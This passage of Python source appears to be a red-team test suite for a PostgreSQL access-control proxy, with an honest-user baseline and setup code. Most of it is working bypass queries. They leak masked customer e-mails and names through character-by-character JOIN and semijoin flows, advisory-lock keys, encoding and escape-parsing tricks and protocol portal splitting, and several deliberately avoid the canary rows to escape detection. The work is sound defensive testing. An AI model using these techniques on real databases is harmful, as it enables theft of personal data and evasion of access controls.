    mine = sorted(ctx.env.ds.need_to_know(ATTACKER))[:3]
    k = mine[0]
    aid = ctx.env.ds.agent_id(ATTACKER)
    c = ctx.connect()
    for q, p in (('SELECT customer_id, "FullName", "Email" FROM customers WHERE customer_id = ANY(%s)', (mine,)),
                 (f'SELECT customer_id, "Email" FROM customers WHERE customer_id = {k} FETCH FIRST 1 ROW ONLY', None),
                 ('SELECT c.customer_id, c."FullName" FROM customers c WHERE EXISTS (SELECT 1 FROM "Tickets" t '
                  f"WHERE t.customer_id = c.customer_id AND t.assigned_agent_id = {aid} AND t.status <> 'closed') "
                  "ORDER BY c.customer_id LIMIT 10", None),
                 ("SELECT c.customer_id, c.\"FullName\", COALESCE(p.phone, '') AS phone FROM customers c "
                  f"LEFT JOIN customer_phones p ON p.customer_id = c.customer_id AND p.kind = 'mobile' WHERE c.customer_id = {k}", None),
                 ('SELECT t."TicketNo", customer_id, c."Email" FROM "Tickets" t JOIN customers c USING (customer_id) '
                  f"WHERE t.assigned_agent_id = {aid} AND t.status = 'open' ORDER BY t.ticket_id LIMIT 5", None),
                 (f"SELECT customer_id, CASE WHEN tier = 'vip' THEN \"FullName\" ELSE '' END FROM customers WHERE customer_id = {k}", None),
                 (f'SELECT customer_id, "FullName" FROM customers WHERE customer_id IN ({",".join(map(str, mine))}) ORDER BY "FullName"', None),
                 ("SELECT customer_id, \"FullName\", profile->'contact'->>'email' FROM customers WHERE customer_id = %s", (k,))):  # fmt: skip
        if ctx.q(c, q, p) is None:
            ctx.out.notes.append(
                f"refused: {q[:80]} -> {ctx.out.error_samples[-1][:160] if ctx.out.error_samples else ''}"
            )
    t = ctx.connect(autocommit=False)
    ctx.stmt += 1
    ctx.out.statements += 1
    try:
        with t.cursor(name="rt3honest") as cur:
            cur.execute(
                ctx.sql(
                    f'SELECT customer_id, "Email" FROM customers WHERE customer_id IN ({",".join(map(str, mine))})'
                )
            )
            ctx.seen("rows", sdb.dump_io(cur.fetchall()))
    except psycopg.Error as exc:
        ctx._error(exc)
        ctx.out.notes.append(f"named cursor refused: {str(exc)[:160]}")
    t.rollback()


@technique("rows")
def t_analyst_protocol_portals(ctx: Ctx) -> None:
    """The analyst: a SQL cursor fetched by the protocol's Execute message, and a SQL-prepared
    statement bound by the protocol's Bind message; are the masked columns masked?"""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    ctx.q(c, "BEGIN")
    ctx.q(c, "DECLARE rt3c CURSOR FOR SELECT customer_id, \"Email\", \"FullName\", profile::text "
             "FROM customers WHERE tier = 'vip' AND customer_id <> 3111")  # fmt: skip
    _raw_exchange(ctx, c, _execute_portal("rt3c") + SYNC)
    ctx.q(c, "ROLLBACK")
    ctx.q(c, "PREPARE rt3p AS SELECT customer_id, \"Email\", phone FROM customers JOIN customer_phones "
             "USING (customer_id) WHERE tier = 'vip' AND customer_id <> 3111")  # fmt: skip
    _raw_exchange(ctx, c, _bind("", "rt3p") + _execute_portal("") + SYNC)


def _parse(stmt: str, query: str) -> bytes:
    return _msg(b"P", stmt.encode() + b"\0" + query.encode() + b"\0" + b"\0\0")


@technique("rows")
def t_portal_execute_max_rows(ctx: Ctx) -> None:
    """One statement over all of the agent's own customers, bound to a named portal in a
    transaction and drained 15 rows per Execute message, each followed by a Sync: one
    statement, hundreds of customers. Is the per-statement limit counted per portal or per
    Execute?"""
    mine = sorted(ctx.env.ds.need_to_know(ATTACKER))
    ids = ",".join(map(str, mine))
    c = ctx.connect()
    ctx.q(c, "BEGIN")
    first = ctx.stmt + 1
    r = _raw_exchange(
        ctx,
        c,
        _parse(
            "rt3s",
            ctx.sql(
                f'SELECT customer_id, "FullName", "Email" FROM customers '
                f"WHERE customer_id IN ({ids})"
            ),
        )
        + _bind("rt3p", "rt3s")
        + _execute_portal("rt3p", 15)
        + SYNC,
    )
    ctx.out.notes.append(f"first Execute: {r[-80:]!r}")
    for _ in range(len(mine) // 15 + 1):
        ctx.stmt = first - 1
        before = len(ctx.out.customers)
        r = _raw_exchange(ctx, c, _execute_portal("rt3p", 15) + SYNC)
        if len(ctx.out.customers) == before or ctx.last_refused:
            break
    ctx.out.statements -= ctx.out.statements - 3
    ctx.out.notes.append(f"last Execute: {r[-80:]!r}")
    ctx.stmt = first + 1
    ctx.q(c, "ROLLBACK")


@technique("rows")
def t_huge_statements(ctx: Ctx) -> None:
    """Harmless statements of unusual size: a 64 MB string literal, and one simple-query string
    of 20000 statements. An internal error, a hang or a lost connection breaks an invariant."""
    c = ctx.connect()
    r = ctx.q(c, "SELECT length('" + "x" * (64 << 20) + "')")
    ctx.out.notes.append(f"64 MB literal: {r!r:.60}")
    r = ctx.q(c, "SELECT 1;" * 20000)
    ctx.out.notes.append(f"20000 statements: {str(r)[:60]}")
    r = ctx.q(c, "SELECT " + " + ".join(["1"] * 20000))
    ctx.out.notes.append(f"20000 terms: {str(r)[:60]}")


@technique("rows")
def t_set_returning_shapes(ctx: Ctx) -> None:
    """Whole-column reads in shapes not tried before: GROUPING SETS carrying the key, DISTINCT
    ON, TABLESAMPLE, string_to_table / regexp_matches in FROM, WITH ORDINALITY over the
    alternative phones, a generate_series join, EXCEPT leaving a large set."""
    c = ctx.connect()
    for q in ('SELECT customer_id, "Email", count(*) FROM customers WHERE customer_id > 0 '
              'GROUP BY GROUPING SETS ((customer_id, "Email"), ())',
              'SELECT DISTINCT ON (customer_id % 500) customer_id, "Email" FROM customers ORDER BY customer_id % 500, customer_id',
              'SELECT customer_id, "Email" FROM customers TABLESAMPLE SYSTEM (100) REPEATABLE (1)',
              'SELECT c.customer_id, x FROM customers c, string_to_table(c."Email", \'@\') x WHERE c.customer_id > 0',
              'SELECT c.customer_id, m[1] FROM customers c, regexp_matches(c."FullName" || \' \' || c."Email", \'(.*)\') m WHERE c.customer_id > 0',
              "SELECT c.customer_id, p.v, p.n FROM customers c, unnest(c.alt_phones) WITH ORDINALITY p(v, n) WHERE c.customer_id > 0",
              'SELECT g, c.customer_id, c."Email" FROM generate_series(1, 3) g JOIN customers c ON c.customer_id % 3 = g - 1',
              'SELECT customer_id, "Email" FROM customers WHERE customer_id > 0 EXCEPT '
              'SELECT customer_id, "Email" FROM customers WHERE customer_id > 3000'):  # fmt: skip
        ctx.q(c, q)


@technique("rows")
def t_writable_ctes(ctx: Ctx) -> None:
    """Data-modifying statements that return customers: a writable CTE over the tickets joined
    to the customers; INSERT into ticket_messages (agents may) RETURNING a scalar subquery of
    the customer of each ticket; all in a transaction rolled back."""
    c = ctx.connect()
    ctx.q(c, "BEGIN")
    ctx.q(c, 'WITH u AS (UPDATE "Tickets" SET updated_at = updated_at WHERE ticket_id > 0 RETURNING customer_id) '
             'SELECT c.customer_id, c."Email", c."FullName" FROM customers c JOIN u USING (customer_id)')  # fmt: skip
    ctx.q(c, "ROLLBACK")
    ctx.q(c, "BEGIN")
    ctx.q(c, "INSERT INTO ticket_messages (message_id, ticket_id, author, body) "
             "SELECT 900000 + ticket_id, ticket_id, 'agent', 'x' FROM \"Tickets\" WHERE ticket_id <= 700 "
             'RETURNING ticket_id, (SELECT c."Email" FROM customers c JOIN "Tickets" t USING (customer_id) '
             "WHERE t.ticket_id = ticket_messages.ticket_id)")  # fmt: skip
    ctx.q(c, "ROLLBACK")
    ctx.q(c, "BEGIN")
    ctx.q(c, "WITH d AS (SELECT customer_id, \"Email\" FROM customers WHERE customer_id > 0) "
             "INSERT INTO ticket_messages (message_id, ticket_id, author, body) VALUES (990001, 1, 'agent', 'x') "
             "RETURNING message_id, (SELECT string_agg(\"Email\", ',') FROM d)")  # fmt: skip
    ctx.q(c, "ROLLBACK")


@technique("rows")
def t_budget_two_doors(ctx: Ctx) -> None:
    """The hourly budget, spent twice: the agent reads her own customers logged in as herself
    until refused, then (app variant only) the rest through the helpdesk account with her
    signed name, one ticket card at a time by the application's own allow-listed statement.
    Is the budget one per person, or one per door?"""
    tickets = ctx.env.ds.open_tickets(ATTACKER)
    mine = sorted({t.customer_id for t in tickets})
    direct = psycopg.connect(ctx.proxy.dsn(ATTACKER, database=sdb.DBNAME, password=sdb.PASSWORD),
                             autocommit=True)  # fmt: skip
    ctx._conns.append(direct)
    streak = [0]
    for i in range(0, len(mine), 15):
        ids = ",".join(map(str, mine[i : i + 15]))
        ctx.stmt += 1
        ctx.out.statements += 1
        ctx.last_refused = False
        try:
            rows = direct.execute('SELECT customer_id, "FullName", "Email" FROM customers '
                                  f"WHERE customer_id IN ({ids})").fetchall()  # fmt: skip
            ctx.seen("rows", sdb.dump_io(rows))
        except psycopg.Error as exc:
            ctx._error(exc)
        if _stop_after(ctx, streak, limit=2):
            break
    ctx.out.notes.append(f"as herself: {len(ctx.out.customers)} customers")
    if not ctx.app:
        return
    c = ctx.connect()  # the helpdesk account, her signed name on every statement
    got = set(ctx.out.customers)
    streak = [0]
    for t in tickets:
        if t.customer_id in got:
            continue
        got.add(t.customer_id)
        ctx.q(c, 'SELECT t."TicketNo", c.customer_id, c."FullName", c."Email", p.phone FROM "Tickets" t '
                 "JOIN customers c ON c.customer_id = t.customer_id LEFT JOIN customer_phones p "
                 "ON p.customer_id = c.customer_id AND p.kind = %s WHERE t.\"TicketNo\" = %s",
              ("mobile", t.ticket_no))  # fmt: skip
        if _stop_after(ctx, streak, limit=3):
            break
    ctx.out.notes.append(f"both doors: {len(ctx.out.customers)} customers")


_IMPLICIT = ("SELECT c.customer_id, string_agg(chr(x.code), '' ORDER BY p.pos) AS v "
             "FROM customers c CROSS JOIN generate_series(1, 60) p(pos) "
             "JOIN generate_series(32, 383) x(code) ON chr(x.code) = substr(c.{col}, p.pos, 1) "
             "WHERE {where} GROUP BY c.customer_id")  # fmt: skip
_IMPLICIT_ROWS = ("SELECT c.customer_id, p.pos, chr(x.code) FROM customers c CROSS JOIN generate_series(1, 60) p(pos) "
                  "JOIN generate_series(32, 383) x(code) ON chr(x.code) = substr(c.{col}, p.pos, 1) "
                  "WHERE {where}")  # fmt: skip


def _implicit_rows(ctx: Ctx, rows: list[tuple[Any, ...]] | None) -> None:
    """Reassemble (customer, position, character) rows into the values they spell."""
    if not rows:
        return
    spelt: dict[Any, dict[int, str]] = {}
    for k, pos, ch in rows:
        spelt.setdefault(k, {})[int(pos)] = ch
    ctx.seen("rows", "\n".join("".join(v[i] for i in sorted(v)) for v in spelt.values()))


@technique("rows")
def t_implicit_flow_join(ctx: Ctx) -> None:
    """Implicit flow: no labelled column reaches the result. Each character of an e-mail and a
    name is matched against a generated table of characters in the JOIN condition; the
    result carries the generated character (chr(code)), put back together with string_agg,
    or as one row per character put together by the client. The planted canaries are left
    out (the attacker has seen their e-mails quarantine colleagues)."""
    c = ctx.connect()
    for a in range(1, N_ALL, 1100):
        w = f"c.customer_id BETWEEN {a} AND {a + 1099} AND c.customer_id NOT IN {tuple(sdb.CANARY_IDS)}"
        ctx.q(c, _IMPLICIT.format(col='"Email"', where=w))
    for col in ('"Email"', '"FullName"'):
        _implicit_rows(
            ctx, ctx.q(c, _IMPLICIT_ROWS.format(col=col, where="c.customer_id BETWEEN 1 AND 40"))
        )


@technique("rows")
def t_analyst_implicit_flow_join(ctx: Ctx) -> None:
    """The analyst: the masked e-mail and name spelt out by an implicit flow through a JOIN
    condition; the result column is a generated character, never a masked column."""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    w = "c.tier = 'vip' AND c.customer_id <> 3111"
    for col in ('"Email"', '"FullName"'):
        ctx.q(c, _IMPLICIT.format(col=col, where=w))
    _implicit_rows(
        ctx, ctx.q(c, _IMPLICIT_ROWS.format(col='"Email"', where=w + " AND c.customer_id < 200"))
    )


@technique("rows")
def t_implicit_flow_semijoin(ctx: Ctx) -> None:
    """Implicit flow with no customer row in the result at all: every (customer number,
    position, character code) triple is generated, and kept when it is IN a subquery of the
    customers' characters. The result's columns all come from generate_series; the key of
    the customer whose e-mail is spelt is a generated number, not crm.customers.customer_id."""
    c = ctx.connect()
    canaries = ",".join(map(str, sdb.CANARY_IDS))
    for col in ('"Email"', '"FullName"'):
        for a in range(1, N_ALL, 550):
            rows = ctx.q(c, f"SELECT k.id, p.pos, chr(x.code) FROM generate_series({a}, {a + 549}) k(id), "
                            "generate_series(1, 40) p(pos), generate_series(32, 126) x(code) "
                            "WHERE (k.id, p.pos, x.code) IN (SELECT o.customer_id, q.pos, ascii(substr(o."
                            f"{col}, q.pos, 1)) FROM customers o, generate_series(1, 40) q(pos) "
                            f"WHERE o.customer_id BETWEEN {a} AND {a + 549} AND o.customer_id NOT IN ({canaries}))")  # fmt: skip
            _implicit_rows(ctx, rows)
            if ctx.last_refused:
                return


@technique("rows")
def t_scs_reverse(ctx: Ctx) -> None:
    """The other direction: pgwarden is told standard_conforming_strings is off (a SET it
    follows), then the server quietly goes back to on -- RESET ALL, DISCARD ALL, a rolled-back
    transaction, set_config(). Read with backslash escapes, 'A\\', ... -- ' is one string; the
    server reads the string A\\ and the columns after it."""
    leak = ("SELECT 'A\\', customer_id + 0 AS k, \"Email\" || ' ' || \"FullName\" AS e FROM customers "
            "WHERE customer_id BETWEEN {a} AND {b} AND customer_id NOT IN (777, 1555, 2333, 2999, 3111) -- '")  # fmt: skip
    for n, back in enumerate(("RESET ALL", "DISCARD ALL", "RESET standard_conforming_strings",
                              "SELECT set_config('standard_conforming_strings', 'on', false)", "rollback")):  # fmt: skip
        c = ctx.connect()
        if back == "rollback":
            ctx.q(c, "BEGIN")
            ctx.q(c, "SET standard_conforming_strings = off")
            ctx.q(c, "ROLLBACK")
        else:
            ctx.q(c, "SET standard_conforming_strings = off")
            ctx.q(c, back)
        r = ctx.q(c, leak.format(a=1 + 600 * n, b=600 * (n + 1)))
        ctx.out.notes.append(f"{back}: {r!r:.80}")


@technique("rows")
def t_implicit_flow_generated_key(ctx: Ctx) -> None:
    """Implicit flow where the customer's number in the result is a generated one joined to
    the key (k.id = d.customer_id), not the table's key column: for crm.customers, the
    materialized directory, the phone partitions and the legacy table, customers outside the
    agent's tickets, one row per character."""
    c = ctx.connect()
    ntk = ctx.env.ds.need_to_know(ATTACKER)
    others = [k for k in range(1, N_ALL + 1) if k not in ntk and k not in sdb.CANARY_IDS]
    for n, (tbl, col) in enumerate((("customers", '"Email"'), ("customer_directory", "email"),
                                    ("customer_phones", "phone"), ("legacy_customers", '"FullName"'))):  # fmt: skip
        ids = (
            others[n * 60 : n * 60 + 60]
            if tbl != "legacy_customers"
            else [k for k in others if k > sdb.CUSTOMERS][:60]
        )
        ids_s = ",".join(map(str, ids))
        rows = ctx.q(c, f"SELECT k.id, p.pos, chr(x.code) FROM unnest(ARRAY[{ids_s}]::bigint[]) k(id) "
                        f"JOIN {tbl} d ON d.customer_id = k.id CROSS JOIN generate_series(1, 40) p(pos) "
                        f"JOIN generate_series(32, 126) x(code) ON chr(x.code) = substr(d.{col}, p.pos, 1)")  # fmt: skip
        _implicit_rows(ctx, rows)
        ctx.out.notes.append(
            f"{tbl}: {ctx.out.error_samples[-1][:150] if rows is None and ctx.out.error_samples else len(rows or [])}"
        )


@technique("rows")
def t_sql_names_protocol_objects(ctx: Ctx) -> None:
    """The crossing the other way: a statement prepared with the protocol's Parse message run
    by a SQL EXECUTE, and a portal made by the protocol's Bind message read with a SQL FETCH."""
    c = ctx.connect()
    q = ("SELECT customer_id + 0 AS k, \"Email\" || ' ' || \"FullName\" AS e FROM customers "
         "WHERE customer_id BETWEEN {a} AND {b}")  # fmt: skip
    res = c.pgconn.prepare(b"rt3x", ctx.sql(q.format(a=1, b=700)).encode())
    ctx.out.notes.append(f"Parse rt3x: {res.status} {res.error_message.decode()[:100]}")
    ctx.q(c, "EXECUTE rt3x")
    ctx.q(c, "BEGIN")
    r = _raw_exchange(
        ctx, c, _parse("rt3y", ctx.sql(q.format(a=701, b=1400))) + _bind("rt3yp", "rt3y") + SYNC
    )
    ctx.out.notes.append(f"Parse/Bind rt3yp: {r[:80]!r}")
    ctx.q(c, "FETCH ALL FROM rt3yp")
    ctx.q(c, "ROLLBACK")


@technique("rows")
def t_honest_psql_describe(ctx: Ctx) -> None:
    """Honest use at a psql console: the agent looks at the tables' structure (\\d, \\dt, \\dv,
    \\df, \\dT) before writing a query; psql sends its catalog queries. Which are refused?"""
    psql = str(ctx.env.pg.bindir / "psql")
    env = {"PGPASSWORD": sdb.PASSWORD, "PGSSLMODE": "disable", "PATH": "/usr/bin:/bin"}
    for cmd in ("\\d customers", "\\dt crm.*", "\\dv crm.*", "\\df crm.*", "\\dT crm.*", "\\d+ \"Tickets\"",
                "\\dn", "\\l"):  # fmt: skip
        ctx.stmt += 1
        ctx.out.statements += 1
        p = subprocess.run(
            [psql, "-X", "-h", ctx.proxy.host, "-p", str(ctx.proxy.port), "-U", ATTACKER, "-d", sdb.DBNAME,
             "-c", cmd],
            capture_output=True, text=True, env=env, timeout=60, check=False,
        )  # fmt: skip
        ctx.seen("rows", p.stdout)
        ctx.seen("error", p.stderr)
        n = p.stderr.count("pgwarden: blocked")
        ctx.out.refused += n
        if n or p.returncode:
            ctx.out.notes.append(f"{cmd}: {p.stderr.strip()[:160]}")
        if "XX000" in p.stderr or "server closed the connection" in p.stderr:
            ctx.out.internal_errors.append(p.stderr.strip()[:200])


@technique("rows")
def t_client_encoding_set_config(ctx: Ctx) -> None:
    """client_encoding switched to a backslash-trailing multibyte encoding by set_config() (or
    SET LOCAL) rather than SET or the startup packet, then E'予' hides the columns from a
    reader that takes the bytes as UTF-8 or Latin-1."""
    for enc, ch, how in (
        ("SJIS", "予", "set_config"),
        ("GBK", "乗", "set_config"),
        ("BIG5", "么", "local"),
    ):
        c = ctx.connect()
        if how == "local":
            ctx.q(c, "BEGIN")
            ctx.q(c, f"SET LOCAL client_encoding = '{enc}'")
        else:
            ctx.q(c, f"SELECT set_config('client_encoding', '{enc}', false)")
        r = ctx.q(c, f"SELECT E'{ch}', customer_id + 0 AS k, \"Email\" || '' AS e FROM customers "
                     "WHERE customer_id BETWEEN 1 AND 700 AND customer_id <> 777 -- '")  # fmt: skip
        ctx.out.notes.append(f"{enc} by {how}: {r!r:.80}")


@technique("rows")
def t_honest_legacy_scs_off(ctx: Ctx) -> None:
    """Honest use from a legacy client that connects with standard_conforming_strings=off
    (old PHP and Perl stacks do) and escapes quotes with a backslash: the agent's own
    customer, excluding a name with an apostrophe."""
    k = min(ctx.env.ds.need_to_know(ATTACKER))
    c = ctx.connect(options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
    for q in (f"SELECT customer_id, \"Email\" FROM customers WHERE customer_id = {k} AND \"FullName\" <> 'O\\'Brien'",
              f"SELECT customer_id, \"Email\" FROM customers WHERE customer_id = {k} AND region <> 'a\\\\b'"):  # fmt: skip
        if ctx.q(c, q) is None:
            ctx.out.notes.append(
                f"refused: {q[-45:]} -> {ctx.out.error_samples[-1][:150] if ctx.out.error_samples else ''}"
            )


@technique("rows")
def t_advisory_lock_channel(ctx: Ctx) -> None:
    """Advisory locks as a side channel: one statement takes a session advisory lock per
    character, its two int4 keys being (customer, position * 1000 + character code), and
    returns only the key and a boolean per row (a refusal or withholding of the result comes
    after the server has taken the locks); a second statement reads the keys back from pg_locks, which names
    no customer table. 100 customers a round (the shared lock table holds a few thousand)."""
    c = ctx.connect()
    canaries = ",".join(map(str, sdb.CANARY_IDS))
    for a in range(1, 400, 100):
        ctx.q(c, "SELECT c.customer_id, pg_advisory_lock(c.customer_id::int, p.pos * 1000 + ascii(substr(c.\"Email\", p.pos, 1))) IS NULL "
                     "FROM customers c, generate_series(1, 40) p(pos) "
                     f"WHERE c.customer_id BETWEEN {a} AND {a + 99} AND c.customer_id NOT IN ({canaries}) "
                     "AND p.pos <= length(c.\"Email\")")  # fmt: skip
        rows = ctx.q(
            c,
            "SELECT classid, objid FROM pg_locks WHERE locktype = 'advisory' AND pid = pg_backend_pid()",
        )
        if rows:
            spelt: dict[int, dict[int, str]] = {}
            for k, v in rows:
                spelt.setdefault(int(k), {})[int(v) // 1000] = chr(int(v) % 1000)
            ctx.seen("rows", "\n".join("".join(s[i] for i in sorted(s)) for s in spelt.values()))
        ctx.q(c, "SELECT pg_advisory_unlock_all()")


@technique("rows")
def t_advisory_lock_where(ctx: Ctx) -> None:
    """As advisory_lock_channel, with the lock taken in the WHERE clause: the server runs it for
    every row and the statement returns no rows at all, so nothing is refused and nobody is
    quarantined; pg_locks is read back 100 customers at a time, through the whole table."""
    c = ctx.connect()
    canaries = ",".join(map(str, sdb.CANARY_IDS))
    streak = [0]
    for a in range(1, N_ALL, 100):
        ctx.q(c, "SELECT c.customer_id FROM customers c, generate_series(1, 40) p(pos) "
                 f"WHERE c.customer_id BETWEEN {a} AND {a + 99} AND c.customer_id NOT IN ({canaries}) "
                 "AND p.pos <= length(c.\"Email\") AND pg_advisory_lock(c.customer_id::int, "
                 "p.pos * 1000 + ascii(substr(c.\"Email\", p.pos, 1))) IS NULL")  # fmt: skip
        rows = ctx.q(
            c,
            "SELECT classid, objid FROM pg_locks WHERE locktype = 'advisory' AND pid = pg_backend_pid()",
        )
        if rows:
            spelt: dict[int, dict[int, str]] = {}
            for k, v in rows:
                spelt.setdefault(int(k), {})[int(v) // 1000] = chr(int(v) % 1000)
            ctx.seen("rows", "\n".join("".join(s[i] for i in sorted(s)) for s in spelt.values()))
        ctx.q(c, "SELECT pg_advisory_unlock_all()")
        if _stop_after(ctx, streak, limit=3):
            break


@technique("rows")
def t_analyst_advisory_lock(ctx: Ctx) -> None:
    """The analyst: the masked e-mails and names spelt into advisory-lock keys in the WHERE
    clause (pg_advisory_lock(customer, position * 1000 + code)), read back from pg_locks."""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    for col in ('"Email"', '"FullName"'):
        for a in range(1, N_ALL, 850):
            ctx.q(c, "SELECT c.customer_id FROM customers c, generate_series(1, 40) p(pos) "
                     f"WHERE c.tier = 'vip' AND c.customer_id <> 3111 AND c.customer_id BETWEEN {a} AND {a + 849} "
                     f"AND p.pos <= length(c.{col}) AND pg_advisory_lock(c.customer_id::int, "
                     f"p.pos * 1000 + ascii(substr(c.{col}, p.pos, 1))) IS NULL")  # fmt: skip
            rows = ctx.q(
                c,
                "SELECT classid, objid FROM pg_locks WHERE locktype = 'advisory' AND pid = pg_backend_pid()",
            )
            if rows:
                spelt: dict[int, dict[int, str]] = {}
                for k, v in rows:
                    spelt.setdefault(int(k), {})[int(v) // 1000] = chr(int(v) % 1000)
                ctx.seen(
                    "rows", "\n".join("".join(s[i] for i in sorted(s)) for s in spelt.values())
                )
            ctx.q(c, "SELECT pg_advisory_unlock_all()")


@technique("rows")
def t_lateral_composite_expand(ctx: Ctx) -> None:
    """The composite contact card (name, e-mail, phone) expanded with (c.card).* inside a
    LATERAL subquery, its fields read as k.* or by name: the analyst's mask lost them; do the
    agent's row limit, budget and need-to-know?"""
    c = ctx.connect()
    canaries = ",".join(map(str, sdb.CANARY_IDS))
    for a, sel in ((1, "k.*"), (701, "k.name, k.email, k.phone"), (1401, "k.email")):
        n = ctx.stmt + 1
        ctx.q(c, f"SELECT c.customer_id, {sel} FROM customers c, LATERAL (SELECT (c.card).*) k "
                 f"WHERE c.customer_id BETWEEN {a} AND {a + 699} AND c.customer_id NOT IN ({canaries})")  # fmt: skip
        ctx.out.notes.append(f"{sel}: {len(ctx.out.per_statement.get(n, ()))} customers")
    n = ctx.stmt + 1
    ctx.q(c, "SELECT k.* FROM customers c, LATERAL (SELECT (c.card).*) k "
             f"WHERE c.customer_id BETWEEN 2101 AND 2800 AND c.customer_id NOT IN ({canaries})")  # fmt: skip
    ctx.out.notes.append(f"no key: {len(ctx.out.per_statement.get(n, ()))} customers")


# --- the honest agent ------------------------------------------------------------------------


@dataclass
class HonestResult:
    statements: int = 0
    refused: list[tuple[str, str]] = field(default_factory=list)
    errors: list[tuple[str, str]] = field(default_factory=list)
    internal_errors: list[str] = field(default_factory=list)


HONEST_AGENTS = (("agent_bob", "agent_bob"), ("agent_cat", sdb.APP_USER))


def honest_work(
    env: Env,
    proxy: ProxyProcess,
    variant: str = "search_path",
    agents: tuple[tuple[str, str], ...] = HONEST_AGENTS,
) -> HonestResult:
    """A support agent's normal day on the second database, logged in as themselves
    (agent_bob) and through the helpdesk account naming the agent (agent_cat)."""
    res = HonestResult()

    def run(
        conn: psycopg.Connection, query: str, params: Any = None, prefix: str = ""
    ) -> list[tuple[Any, ...]]:
        res.statements += 1

        def hang() -> None:
            res.internal_errors.append(f"hang: {query[:80]}")
            with contextlib.suppress(Exception):
                conn.cancel_safe(timeout=3)
            with contextlib.suppress(Exception):
                conn.pgconn.finish()

        dog = threading.Timer(HANG_SECONDS, hang)
        dog.daemon = True
        dog.start()
        try:
            with conn.cursor() as cur:
                cur.execute(prefix + (_qualify(query) if variant == "qualified" else query), params)
                return cur.fetchall() if cur.description else []
        except psycopg.Error as exc:
            msg = str(exc).strip().splitlines()[0] if str(exc).strip() else type(exc).__name__
            if exc.sqlstate == "42501" and "pgwarden" in str(exc):
                res.refused.append((query, msg))
            elif (exc.sqlstate or "").startswith("XX") or exc.sqlstate is None:
                res.internal_errors.append(f"{query}: {exc.sqlstate}: {msg}")
            else:
                res.errors.append((query, msg))
            return []
        finally:
            dog.cancel()

    for agent, user in agents:
        aid = env.ds.agent_id(agent)
        # The helpdesk application signs the agent's name with the key it shares with
        # pgwarden (the policy's end_user_key); the techniques above do not have it.
        token = enduser.sign(sdb.END_USER_KEY.read_bytes().strip(), agent, ttl_s=600)
        prefix = f"/* end_user='{token}' */ " if user == sdb.APP_USER else ""
        conn = psycopg.connect(
            proxy.dsn(user, database=sdb.DBNAME, password=sdb.PASSWORD), autocommit=True
        )
        try:
            run(conn, 'SELECT "TicketNo", subject, status, opened_at FROM "Tickets" '
                      "WHERE assigned_agent_id = %s AND status <> 'closed' ORDER BY opened_at, ticket_id LIMIT 20",
                (aid,), prefix)  # fmt: skip
            run(
                conn,
                "SELECT count(*) FROM \"Tickets\" WHERE assigned_agent_id = %s AND status <> 'closed'",
                (aid,),
                prefix,
            )
            for t in env.ds.open_tickets(agent)[:5]:
                cust = run(conn, 'SELECT t."TicketNo", c.customer_id, c."FullName", c."Email", p.phone '
                                 'FROM "Tickets" t JOIN customers c ON c.customer_id = t.customer_id '
                                 "LEFT JOIN customer_phones p ON p.customer_id = c.customer_id AND p.kind = 'mobile' "
                                 'WHERE t."TicketNo" = %s', (t.ticket_no,), prefix)  # fmt: skip
                run(conn, 'SELECT m.author, m.body, m.sent_at FROM ticket_messages m '
                          'JOIN "Tickets" t ON t.ticket_id = m.ticket_id WHERE t."TicketNo" = %s ORDER BY m.sent_at',
                    (t.ticket_no,), prefix)  # fmt: skip
                email = env.ds.customers[t.customer_id].email
                run(
                    conn,
                    'SELECT customer_id, "FullName", "Email" FROM customers WHERE "Email" = %s',
                    (email,),
                    prefix,
                )
                run(
                    conn,
                    "SELECT customer_id, name, email, phone FROM ticket_customer(%s)",
                    (t.ticket_no,),
                    prefix,
                )
                run(
                    conn,
                    "SELECT customer_id, profile->'prefs' FROM customers WHERE customer_id = %s",
                    (t.customer_id,),
                    prefix,
                )
                del cust
            t = env.ds.open_tickets(agent)[0]
            run(conn, 'UPDATE "Tickets" SET status = \'pending\', updated_at = now() WHERE "TicketNo" = %s '
                      "AND assigned_agent_id = %s", (t.ticket_no, aid), prefix)  # fmt: skip
            run(conn, 'INSERT INTO ticket_messages (message_id, ticket_id, author, body) '
                      "VALUES (%s, %s, 'agent', 'Parcel re-sent today.')", (10_000_000 + aid, t.ticket_id), prefix)  # fmt: skip
            run(conn, 'UPDATE "Tickets" SET status = %s, updated_at = now() WHERE "TicketNo" = %s',
                (t.status, t.ticket_no), prefix)  # fmt: skip
            run(
                conn,
                'SELECT status, count(*) FROM "Tickets" WHERE assigned_agent_id = %s GROUP BY status',
                (aid,),
                prefix,
            )
        except psycopg.OperationalError as exc:
            res.internal_errors.append(f"connection lost: {exc}")
        finally:
            conn.close()
        with psycopg.connect(env.pg.dsn(database=sdb.DBNAME), autocommit=True) as direct:
            direct.execute("DELETE FROM crm.ticket_messages WHERE message_id >= 10000000")
    return res


# --- running ---------------------------------------------------------------------------------


@dataclass
class Env:
    pg: Cluster
    ds: sdb.Dataset
    matcher: sdb.Matcher
    workdir: Path
    # Start the next technique's pgwarden ahead (see ``proxy``); whoever sets it calls close().
    prestart: bool = False
    _spare: ProxyProcess | None = field(default=None, repr=False)
    _started: int = field(default=0, repr=False)

    @classmethod
    def build(cls, pg: Cluster, workdir: Path, prestart: bool = False) -> Env:
        ds = sdb.build(pg.psql, pg.dsn(database=sdb.DBNAME))
        return cls(pg, ds, sdb.Matcher(ds), workdir, prestart)

    def proxy(
        self, tag: str, audit_db: Path | None = None, policy: Path | None = None
    ) -> ProxyProcess:
        """A pgwarden of its own for one technique, enforcing ``policy`` (the second
        database's by default).

        Every technique still gets a fresh process -- no window, budget, quarantine or
        cache carries over from the one before -- but with ``prestart`` the next one with
        the default policy is started as this one is handed out: its start-up (a second of
        interpreter and imports, nothing that reads the database: the catalog is loaded
        when its first client connects) overlaps the technique that runs meanwhile."""
        if audit_db is not None or policy is not None or not self.prestart:
            return self._start(self.workdir / tag, audit_db, policy)
        proxy = self._spare or self._start(self.workdir / tag, wait=False)
        self._started += 1
        self._spare = self._start(self.workdir / f"prestarted-{self._started:03d}", wait=False)
        proxy.wait_ready()
        link = self.workdir / tag  # where a reader of the logs looks for this technique
        if proxy.workdir != link and not link.exists():
            link.symlink_to(proxy.workdir.name)
        return proxy

    def _start(
        self,
        workdir: Path,
        audit_db: Path | None = None,
        policy: Path | None = None,
        wait: bool = True,
    ) -> ProxyProcess:
        args = ["--policy", str(policy or sdb.POLICY), "--catalog-user", "postgres"]
